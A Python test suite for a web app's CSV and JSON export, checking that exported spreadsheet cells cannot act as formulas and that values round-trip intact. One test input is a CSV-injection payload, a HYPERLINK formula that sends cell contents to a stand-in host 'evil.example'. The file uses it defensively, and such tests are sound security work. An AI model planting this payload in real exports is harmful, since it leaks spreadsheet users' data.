"""Lists as files: what is read back is what was there, and no cell is a formula."""

import csv
import io
import json
import re
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.web.exports import as_csv, as_json

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA = (*SIGNS, "\t", "\r", "\n", "\0")
SEPARATORS = (";", "\t", ",", "|", "\n", "\r", ';"', '\t""', '|"')


@dataclass(frozen=True)
class Thing:
    """A record with every kind of value that is exported."""

    text: str
    number: int
    flag: bool
    when: datetime
    span: timedelta
    words: tuple[str, ...]


THINGS = st.builds(
    Thing,
    st.text()
    | st.builds(str.__add__, st.sampled_from(FORMULA), st.text(max_size=5))
    | st.lists(st.sampled_from((*SEPARATORS, *SIGNS, "a", "1")), max_size=8).map("".join),
    st.integers(),
    st.booleans(),
    st.datetimes(timezones=st.just(UTC)),
    st.timedeltas(timedelta(0), timedelta(seconds=2**32)),
    st.lists(st.text("abc =", min_size=1, max_size=5), max_size=3).map(tuple),
)

EVIL = Thing("=1+1", -5, True, datetime(2026, 1, 2, tzinfo=UTC), timedelta(seconds=90), ("=x",))


def read_csv(things: list[Thing]) -> list[list[str]]:
    """Write the things as CSV, and read it as a spreadsheet does."""
    text = bytes(as_csv("things", things, Thing).body).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.lists(THINGS, max_size=4))
@example([EVIL])
def test_csv_comes_back_and_runs_nothing(things: list[Thing]) -> None:
    head, *rows = read_csv(things)
    assert head == ["text", "number", "flag", "when", "span", "words"]
    assert len(rows) == len(things)
    for thing, row in zip(things, rows, strict=True):
        text, number, flag, when, span, words = row
        assert text.startswith("'") or not text.startswith(FORMULA)
        assert text.replace("'", "") == thing.text.replace("'", "")
        if not any(sign in thing.text for sign in FORMULA):
            assert text == thing.text
        assert (int(number), flag) == (thing.number, str(thing.flag))
        assert datetime.fromisoformat(when) == thing.when
        assert float(span) == thing.span.total_seconds()
        assert tuple(words.replace("'", "").split("\n")) == (thing.words or ("",))
        assert not [cell for cell in (text, words) if cell.startswith(FORMULA)]


def test_a_list_has_one_value_per_line() -> None:
    words = ("X-Note=hello world", "X-Two=b", "two\nlines")
    thing = replace(EVIL, words=words)
    assert read_csv([thing])[1][-1] == "X-Note=hello world\nX-Two=b\ntwo lines"


@given(st.lists(THINGS, max_size=4))
@example([replace(EVIL, text="a;=1+1")])
@example([replace(EVIL, text='guest;=HYPERLINK("http://evil.example/?"&A1;"report");')])
@example([replace(EVIL, text='a\t"=1+1"|+2\n@x')])
@example([replace(EVIL, words=("a", ";=1"))])
def test_no_part_of_a_cell_is_a_formula_wherever_a_spreadsheet_divides_it(
    things: list[Thing],
) -> None:
    """Which sign divides cells depends on the reader's locale; LibreOffice takes several."""
    for row in read_csv(things)[1:]:
        for cell in (row[0], row[5]):
            parts = re.split("[;\t,|\r\n]", cell)
            assert [part for part in parts if part.lstrip('"').startswith(SIGNS)] == []


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a,b;c|d\te", "a,b;c|d\te"),
        ("a;b=c-d@e", "a;b=c-d@e"),
        ("=1;=2", "'=1;'=2"),
        ("two, - three", "two, - three"),
        ('x;"=1"', 'x;\'"=1"'),
    ],
)
def test_only_a_formula_is_marked(text: str, cell: str) -> None:
    assert read_csv([replace(EVIL, text=text)])[1][0] == cell


@given(st.lists(THINGS, max_size=4))
def test_json_comes_back_as_it_was(things: list[Thing]) -> None:
    body = bytes(as_json("things", things).body)
    for thing, said in zip(things, json.loads(body), strict=True):
        assert list(said) == ["text", "number", "flag", "when", "span", "words"]
        assert (said["text"], said["number"], said["flag"]) == (
            thing.text,
            thing.number,
            thing.flag,
        )
        assert datetime.fromisoformat(said["when"]) == thing.when
        assert said["span"] == thing.span.total_seconds()
        assert tuple(said["words"]) == thing.words


def test_spreadsheets_are_told_that_it_is_utf8() -> None:
    body = bytes(as_csv("things", [], Thing).body)
    assert body == b"\xef\xbb\xbftext,number,flag,when,span,words\r\n"
    assert bytes(as_json("things", []).body) == b"[]"


def test_the_file_has_a_name_with_the_time() -> None:
    name = as_json("things", []).headers["content-disposition"]
    stamp = name.removeprefix('attachment; filename="things-').removesuffix('.json"')
    made = datetime.strptime(stamp, "%Y%m%d-%H%M%S").replace(tzinfo=UTC)
    assert abs((datetime.now(UTC) - made).total_seconds()) < 60
